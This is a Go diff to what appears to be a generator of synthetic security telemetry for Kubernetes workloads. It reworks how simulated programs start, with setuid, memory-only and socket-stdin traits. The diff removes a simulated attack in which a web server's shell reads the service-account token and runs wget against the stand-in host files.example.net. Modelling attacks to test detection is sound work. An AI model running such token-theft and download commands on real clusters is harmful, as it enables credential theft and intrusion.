@@ -34,28 +34,61 @@ type story struct {
 	scenarios Scenarios
 	tell      func(family event.Family, time uint64, bytes []byte)
 	serving   *exchange // what is done now is for this; nil: for nothing
+	watched   watched
 }
 
 // --- processes ---------------------------------------------------------------------------------
 
-// command is one that somebody runs and that does something while it runs.
-func (s *story) command(parent *process, now uint64, exe string, args []string, status uint32, does func(p *process, now uint64) uint64) uint64 {
+// program is what somebody runs.
+type program struct {
+	exe      string
+	args     []string
+	status   uint32    // as wait(2) has it
+	unlinked bool      // it is in memory only
+	setuid   bool      // it is root's, and has the set-user-ID bit
+	stdin    *endpoint // of the other end, where that is a socket; nil: it is none
+	// before is what its process does before it is started, and does what it does then; nil: nothing.
+	before, does func(p *process, now uint64) uint64
+}
+
+// run has a process start a program in another, and wait for its end.
+func (s *story) run(parent *process, now uint64, of *program) uint64 {
 	p := s.start(parent, parent.exe, now)
 	s.tell(event.FamilyProcess, now, forkRecord(p, now))
 	if parent.detaches {
 		p.session = p.pid
 	}
 	now += s.between(200*microsecond, 2*millisecond)
-	p.exe = exe
-	s.tell(event.FamilyProcess, now, execRecord(p, now, args...))
+	if of.before != nil {
+		now = of.before(p, now)
+	}
 	began := now
-	now += s.between(millisecond, 30*millisecond)
-	if does != nil {
-		now = does(p, now)
+	now = s.exec(p, now, of) + s.between(millisecond, 30*millisecond)
+	if of.does != nil {
+		now = of.does(p, now)
 	}
 	now += s.between(100*microsecond, 5*millisecond)
-	s.tell(event.FamilyProcess, now, exitRecord(p, now, status, (now-began)/3+1, 1<<20+s.between(0, 30<<20)))
+	s.tell(event.FamilyProcess, now, exitRecord(p, now, of.status, (now-began)/3+1, 1<<20+s.between(0, 30<<20)))
 	return now
+}
+
+// exec is the start of a program, and what is remarkable about that.
+func (s *story) exec(p *process, now uint64, of *program) uint64 {
+	p.exe, p.unlinked = of.exe, of.unlinked
+	if of.setuid {
+		p.becomeRoot()
+	}
+	s.tell(event.FamilyProcess, now, execRecord(p, now, of.args...))
+	for _, a := range actionsAtExec(p, of) {
+		now += microsecond
+		s.act(p, now, a)
+	}
+	return now
+}
+
+// command is a program that somebody runs and that does something while it runs.
+func (s *story) command(parent *process, now uint64, exe string, args []string, status uint32, does func(p *process, now uint64) uint64) uint64 {
+	return s.run(parent, now, &program{exe: exe, args: args, status: status, does: does})
 }
 
 // probe is what a kubelet has a container run to see that it lives.
@@ -71,16 +104,21 @@ func (s *story) probe(now uint64) uint64 {
 // into is the process as one that is about to enter a container.
 func (p *process) into(in *pod) *process {
 	inside := *p
-	inside.cgroup, inside.uid, inside.pod, inside.cwd, inside.detaches = in.server.cgroup, in.server.uid, in, "/", true
+	inside.cgroup, inside.credentials, inside.pod, inside.cwd, inside.detaches = in.server.cgroup, in.server.credentials, in, "/", true
 	return &inside
 }
 
-// job is a cron job outside of any container: a shell, and what it runs.
+// job is a cron job outside of any container: a shell, and what it runs. Whether its account is still good says
+// /etc/shadow, which is why cron opens it for every job.
 func (s *story) job(now uint64) uint64 {
-	return s.command(s.cron, now, "/bin/dash", []string{"/bin/sh", "-c", "/usr/local/bin/backup --keep 7"}, 0, func(shell *process, now uint64) uint64 {
-		return s.command(shell, now, "/usr/bin/curl", []string{"curl", "-sf", "http://" + s.services["frontend"].host() + ":8080/"}, 0, func(curl *process, now uint64) uint64 {
-			return s.visit(curl, s.services["frontend"], now)
-		})
+	return s.run(s.cron, now, &program{
+		exe: "/bin/dash", args: []string{"/bin/sh", "-c", "/usr/local/bin/backup --keep 7"},
+		before: func(p *process, now uint64) uint64 { return s.open(p, now, shadow) },
+		does: func(shell *process, now uint64) uint64 {
+			return s.command(shell, now, "/usr/bin/curl", []string{"curl", "-sf", "http://" + s.services["frontend"].host() + ":8080/"}, 0, func(curl *process, now uint64) uint64 {
+				return s.visit(curl, s.services["frontend"], now)
+			})
+		},
 	})
 }
 
@@ -90,6 +128,7 @@ func (s *story) crashLoop(now uint64) uint64 {
 	parent := s.shims[p].into(p)
 	for range 3 {
 		p.restarts++
+		now = s.createContainer(p, now)
 		if s.chance(0.3) {
 			now = s.command(parent, now, p.server.exe, []string{p.server.comm(), "--serve"}, killed, func(victim *process, now uint64) uint64 {
 				s.tell(event.FamilyProcess, now, oomRecord(victim, now))
@@ -101,21 +140,6 @@ func (s *story) crashLoop(now uint64) uint64 {
 		now += s.between(10*millisecond, 40*millisecond)
 	}
 	return now
-}
-
-// attack begins with a web server that starts a shell, and ends with data that goes out.
-func (s *story) attack(now uint64) uint64 {
-	victim := s.anyPod(s.services["cart"]).server
-	return s.command(victim, now, "/bin/busybox", []string{"sh", "-c", "id; cat /var/run/secrets/kubernetes.io/serviceaccount/token; wget -q http://files.example.net/x"}, 0, func(shell *process, now uint64) uint64 {
-		now = s.command(shell, now, "/bin/busybox", []string{"id"}, 0, nil)
-		now = s.command(shell, now, "/bin/busybox", []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}, 0, nil)
-		return s.command(shell, now, "/bin/busybox", []string{"wget", "-q", "http://files.example.net/x"}, failure, func(wget *process, now uint64) uint64 {
-			outside := ipv4(203, 0, 113, 66)
-			now = s.ask(wget, now, "files.example.net", dnsmessage.RCodeSuccess, outside)
-			c := s.connect(wget, nil, endpoint{address: outside, port: 80}, &now)
-			return s.close(c, now+s.between(10*millisecond, 50*millisecond))
-		})
-	})
 }
 
 // --- names -------------------------------------------------------------------------------------
